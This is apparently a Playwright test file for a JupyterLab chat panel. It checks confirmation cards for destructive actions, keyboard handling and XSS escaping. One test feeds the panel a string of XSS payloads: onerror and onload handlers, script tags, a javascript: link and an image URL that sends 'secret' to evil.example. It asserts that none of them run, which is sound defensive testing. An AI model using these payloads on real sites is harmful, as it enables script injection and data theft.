"""The panel in a real JupyterLab, driven by a real browser."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.written import habits

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]

ADD = "카페인 줄이는 습관을 추가해줘"
DEMO = "from lhkit.notebook import demo_panel\npanel = demo_panel({path!r})\npanel"
SLOW_DEMO = DEMO.replace(")", ", pace_s=1)")  # in the middle of its story whatever the load is
EARLY_MS = 400

OpenNotebook = Callable[..., Page]


@pytest.fixture
def database(tmp_path: Path) -> Path:
    return tmp_path / "habits.sqlite3"


@pytest.fixture
def page(open_notebook: OpenNotebook, database: Path) -> Page:
    """Return a page with the demo's panel over `database`."""
    return open_notebook(DEMO.format(path=str(database)))


def say(page: Page, text: str) -> None:
    """Type and send, once the panel is idle: it keeps, and does not send, what comes while busy."""
    expect(page.locator(".lhkit-send")).to_be_enabled()
    page.locator(".lhkit-input").click()
    page.keyboard.type(text)
    page.keyboard.press("Enter")


def card(page: Page) -> Locator:
    return page.locator(".lhkit-confirm").last


def open_card(page: Page) -> Locator:
    """Say that a habit is to be added and return the card, old enough to be pressed."""
    say(page, ADD)
    expect(card(page)).to_have_attribute("data-state", "open")
    expect(page.locator(".lhkit-run")).to_be_focused()
    page.wait_for_timeout(EARLY_MS + 100)
    return card(page)


def answer(page: Page) -> Locator:
    return page.locator('[data-role="assistant"]').last


@pytest.mark.promise("notebook.click_writes")
def test_card_run_writes_the_row(page: Page, database: Path, shots: Path) -> None:
    say(page, ADD)
    expect(card(page)).to_have_attribute("data-state", "open")
    expect(card(page)).to_contain_text("카페인")
    expect(page.get_by_role("alertdialog", name="이 작업을 수행할까요?")).to_be_visible()
    expect(page.locator(".lhkit-run")).to_be_focused()
    assert habits(database) == []
    page.screenshot(path=shots / "card-open-light.png")
    page.wait_for_timeout(EARLY_MS)
    page.locator(".lhkit-run").dblclick()  # two quick clicks write once
    expect(card(page)).to_have_attribute("data-state", "allowed")
    expect(card(page)).to_contain_text("수행함")
    expect(answer(page)).to_contain_text("맞춰 해 보세요!")
    assert habits(database) == ["caffeine-cutoff"]
    expect(page.locator(".lhkit-run")).to_have_count(0)
    assert page.locator('[data-role="tool"][data-status="ok"]').count() == 2
    page.locator(".lhkit-chat").screenshot(path=shots / "panel-light.png")
    say(page, "오늘 카페인 지켰어, 기록해줘")
    expect(card(page)).to_have_attribute("data-state", "open")
    page.screenshot(path=shots / "conversation-light.png")


@pytest.mark.promise("notebook.no_means_no")
def test_card_cancel_escape_and_stop_write_nothing(page: Page, database: Path) -> None:
    open_card(page).locator(".lhkit-cancel").click()
    expect(card(page)).to_contain_text("취소함")
    expect(answer(page)).to_contain_text("아무것도 하지 않았")
    open_card(page)
    page.keyboard.press("Escape")
    expect(card(page)).to_contain_text("Esc")
    expect(answer(page)).to_contain_text("바뀐 것도 없어요")
    open_card(page)
    page.locator(".lhkit-stop").click()
    expect(card(page)).to_contain_text("멈추기")
    expect(card(page)).to_have_attribute("data-state", "denied")
    expect(page.locator('[data-role="tool"]').last).to_have_attribute("data-status", "cancelled")
    expect(page.locator(".lhkit-send")).to_be_enabled()
    assert habits(database) == []
    say(page, "안녕")
    expect(answer(page)).to_contain_text("안녕하세요")  # the history is still good


def test_card_keyboard_ignores_early_and_held_enter(page: Page, database: Path) -> None:
    page.evaluate("() => { const now = performance.now(); performance.now = () => now; }")
    say(page, ADD)
    run = page.locator(".lhkit-run")
    expect(run).to_be_focused()
    page.keyboard.press("Enter")  # a stray one, typed on while the card is young
    page.keyboard.press(" ")
    run.click()
    page.keyboard.down("Enter")
    page.evaluate("() => { delete performance.now; }")
    page.wait_for_timeout(EARLY_MS + 100)
    page.keyboard.down("Enter")  # still held: auto-repeat
    page.keyboard.up("Enter")
    expect(run).to_be_focused()
    expect(card(page)).to_have_attribute("data-state", "open")
    page.keyboard.press("Shift+Tab")
    expect(page.locator(".lhkit-edit")).to_be_focused()
    page.keyboard.press("Shift+Tab")
    expect(page.locator(".lhkit-cancel")).to_be_focused()
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    expect(run).to_be_focused()
    assert habits(database) == []
    page.keyboard.press("Enter")
    expect(card(page)).to_have_attribute("data-state", "allowed")
    expect(page.locator(".lhkit-input")).to_be_focused()
    expect(answer(page)).to_contain_text("맞춰 해 보세요!")  # sent after the write
    assert habits(database) == ["caffeine-cutoff"]


def test_input_handles_shortcuts_line_breaks_and_ime(page: Page) -> None:
    box = page.locator(".lhkit-input")
    box.click()
    page.keyboard.type("dd")  # deletes a cell in command mode
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("list")
    expect(box).to_have_value("dd\nlist")
    expect(page.locator(".jp-CodeCell")).to_have_count(1)
    composing = "new KeyboardEvent('keydown', {key: 'Enter', isComposing: true, bubbles: true})"
    box.evaluate(f"box => box.dispatchEvent({composing})")
    enter = "new KeyboardEvent('keydown', {key: 'Enter', bubbles: true})"
    old = f"Object.defineProperty({enter}, 'keyCode', {{value: 229}})"
    box.evaluate(f"box => box.dispatchEvent({old})")
    expect(box).to_have_value("dd\nlist")
    expect(page.locator('[data-role="user"]')).to_have_count(0)
    page.keyboard.press("Enter")
    expect(page.locator('[data-role="user"]')).to_have_count(1)
    expect(answer(page)).to_contain_text("Add a habit to cut caffeine")


def test_stop_and_other_buttons(open_notebook: OpenNotebook, database: Path, shots: Path) -> None:
    page = open_notebook(SLOW_DEMO.format(path=str(database)))
    say(page, "긴 이야기 하나 해줘")
    expect(page.locator("[data-live]")).to_contain_text("작은 습관")
    page.locator(".lhkit-stop").click()
    expect(page.locator(".lhkit-ending")).to_contain_text("멈췄어요")
    expect(page.locator("[data-live]")).to_have_count(0)
    reply = answer(page).inner_text()
    assert "불러와요" not in reply
    expect(page.locator(".lhkit-send")).to_be_enabled()
    page.screenshot(path=shots / "stopped.png")
    with page.expect_download() as download:
        page.locator(".lhkit-markdown-file").click()
    assert "작은 습관" in Path(download.value.path()).read_text(encoding="utf-8")
    answer(page).hover()
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer(page).locator('[data-action="copy"]').click()
    expect(answer(page).locator('[data-action="copy"]')).to_have_text("복사했어요")
    assert page.evaluate("() => navigator.clipboard.readText()").startswith("작은 습관")
    page.locator(".lhkit-locale").select_option("en")
    expect(page.locator(".lhkit-send")).to_have_text("Send")
    page.locator(".lhkit-clear").click()
    expect(page.locator(".lhkit-message")).to_have_text(
        ["The conversation is cleared. This is a new start."]
    )


def test_reload_keeps_conversation_and_open_card(page: Page, database: Path) -> None:
    open_card(page)
    page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
    page.goto(page.url.replace("?reset", ""), wait_until="domcontentloaded")
    expect(card(page)).to_have_attribute("data-state", "open")
    expect(page.locator('[data-role="user"]')).to_have_text("나카페인 줄이는 습관을 추가해줘")
    page.wait_for_timeout(EARLY_MS + 300)
    assert habits(database) == []
    page.locator(".lhkit-run").click()
    expect(card(page)).to_have_attribute("data-state", "allowed")
    expect(answer(page)).to_contain_text("맞춰 해 보세요!")
    assert habits(database) == ["caffeine-cutoff"]


IN_CELL = """
from lhkit.notebook import ButtonConfirmGate
from lhkit import ConfirmRequest
gate = ButtonConfirmGate()
async def ask():
    return await gate.confirm(ConfirmRequest(
        tool="delete_file", description="파일을 지운다", args={}, summary="a.txt"))
"""


def test_gate_in_a_cell_click_interrupt_and_clear(
    open_notebook: OpenNotebook,
) -> None:
    page = open_notebook(
        IN_CELL,
        "print('answer:', bool(await ask()))",
        "import time\nbegun = time.monotonic()\n"
        "try:\n    await ask()\nexcept BaseException as error:\n"
        "    print(type(error).__name__, gate.outcomes[-1])",
        "print(bool(await ask()), gate.outcomes[-1])",
    )
    cells = page.locator(".jp-CodeCell")
    run = cells.nth(1).locator(".lhkit-run")
    expect(run).to_be_focused()
    page.wait_for_timeout(EARLY_MS + 100)
    run.click()
    expect(cells.nth(1)).to_contain_text("answer: True")
    expect(cells.nth(2).locator(".lhkit-run")).to_be_visible()
    page.evaluate("() => { window.jupyterapp.commands.execute('notebook:interrupt-kernel'); }")
    expect(cells.nth(2)).to_contain_text("CancelledError interrupted")
    expect(cells.nth(2).locator(".lhkit-confirm")).to_have_attribute("data-state", "denied")
    expect(cells.nth(3).locator(".lhkit-run")).to_be_visible()
    page.evaluate("""() => {
        window.jupyterapp.shell.currentWidget.content.activeCellIndex = 3;
        window.jupyterapp.commands.execute('notebook:clear-cell-output');
    }""")
    expect(cells.nth(3)).to_contain_text("False closed")


PROBES = r"""
from lhkit import ScriptedModel, ToolDefinition, ToolOk, ToolRegistry
from lhkit.models.scripted import Reply
from lhkit.notebook import ChatPanel
from lhkit.messages import ToolCall
EVIL = '''<img src=x onerror="window.ran=1"><script>window.ran=2</script>
[link](javascript:window.ran=3) [data](data:text/html,<script>window.ran=4</script>)
![secret](https://evil.example/?q=secret) <svg onload="window.ran=5"> "><b onmouseover=window.ran=6>
'''
tool = ToolDefinition(name="probe", description=EVIL, parameters={"type": "object"},
                      handler=lambda args, deps: ToolOk({"echo": EVIL}), is_destructive=True)
replies = [Reply(text=EVIL, calls=(ToolCall(name="probe", args={EVIL: EVIL}, raw=EVIL),)),
           Reply(text=EVIL), Reply(text=EVIL, error=RuntimeError(EVIL))]
panel = ChatPanel(model=ScriptedModel(replies), toolset=ToolRegistry([tool]), opt_in=True)
panel
"""


@pytest.mark.promise("notebook.xss")
def test_panel_escapes_model_and_tool_text(open_notebook: OpenNotebook, shots: Path) -> None:
    page = open_notebook(PROBES)
    say(page, "<img src=x onerror='window.ran=7'>")
    expect(card(page)).to_have_attribute("data-state", "open")
    page.wait_for_timeout(EARLY_MS + 100)
    page.locator(".lhkit-run").click()
    expect(card(page)).to_have_attribute("data-state", "allowed")
    expect(page.locator(".lhkit-send")).to_be_enabled()
    page.locator('[data-role="tool"] summary').first.click()
    say(page, "again")
    expect(page.locator('[data-role="error"]')).to_contain_text("onerror")
    page.screenshot(path=shots / "probes.png")
    assert page.evaluate("() => window.ran") is None
    inside = page.locator(".lhkit-list")
    assert inside.locator("img, script, svg, iframe, b[onmouseover]").count() == 0
    assert inside.locator('a:not([href^="http"])').count() == 0
    assert [url for url in page.requested if "evil" in url] == []  # type: ignore[attr-defined]  # set by the fixture


OPT_IN = """
from lhkit import ScriptedModel
from lhkit.models.scripted import say
from lhkit.notebook import ChatPanel
from lhkit.tools.registry import ToolRegistry
panel = ChatPanel(model=ScriptedModel([say("반가워요")], name="gemma-test"), toolset=ToolRegistry())
panel
"""


def test_opt_in_is_required_and_readable_in_dark_theme(
    open_notebook: OpenNotebook, shots: Path
) -> None:
    page = open_notebook(OPT_IN, DEMO.format(path=None), theme="JupyterLab Dark")
    first = page.locator(".lhkit-chat").first
    expect(first.locator(".lhkit-opt-in")).to_contain_text("gemma-test")
    expect(first.locator(".lhkit-input")).to_be_disabled()
    page.screenshot(path=shots / "opt-in-dark.png")
    expect(first).not_to_have_class(re.compile("lhkit-deaf"))  # the kernel hears us
    first.locator('[data-action="opt_in"]').click()
    expect(first.locator(".lhkit-opt-in")).to_have_count(0)
    first.locator(".lhkit-input").fill("안녕")
    first.locator(".lhkit-send").click()
    expect(first.locator('[data-role="assistant"]')).to_contain_text("반가워요")
    second = page.locator(".lhkit-chat").nth(1)
    second.scroll_into_view_if_needed()
    second.locator(".lhkit-input").fill(ADD)
    second.locator(".lhkit-send").click()
    expect(second.locator(".lhkit-run")).to_be_focused()
    second.screenshot(path=shots / "panel-dark.png")
